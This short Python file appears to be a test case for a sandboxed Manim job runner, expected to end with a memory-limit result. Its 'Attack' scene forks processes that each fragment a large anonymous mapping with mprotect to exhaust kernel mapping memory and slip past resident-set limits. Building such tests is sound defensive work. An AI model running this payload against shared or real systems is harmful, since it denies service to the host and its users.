"""Sixty thousand mappings a process: the kernel notes each, no resident set does."""
# expect: memory_limit
# job: memory_mb=400 timeout_s=60
# tries: no
import ctypes
import os
import time

from manim import *


class Attack(Scene):
    def construct(self):
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        for _ in range(24):
            if os.fork() == 0:
                at = libc.mmap(None, ctypes.c_size_t(60000 * 4096), 0, 0x4022, -1, ctypes.c_long(0))
                for page in range(0, 60000, 2):
                    libc.mprotect(ctypes.c_void_p(at + page * 4096), ctypes.c_size_t(4096), 1)
                time.sleep(100)
        time.sleep(100)
